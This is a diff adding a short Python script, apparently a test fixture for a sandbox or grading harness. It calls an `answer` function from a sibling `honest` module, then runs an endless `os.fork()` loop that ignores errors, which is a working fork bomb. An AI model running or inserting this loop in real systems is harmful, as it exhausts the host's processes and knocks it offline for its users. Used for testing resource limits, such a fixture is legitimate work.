@@ -1,0 +1,17 @@
+"""Forks without end."""
+
+from __future__ import annotations
+
+import os
+import sys
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+from honest import answer  # noqa: E402
+
+answer()
+while True:
+    try:
+        os.fork()
+    except OSError:
+        continue
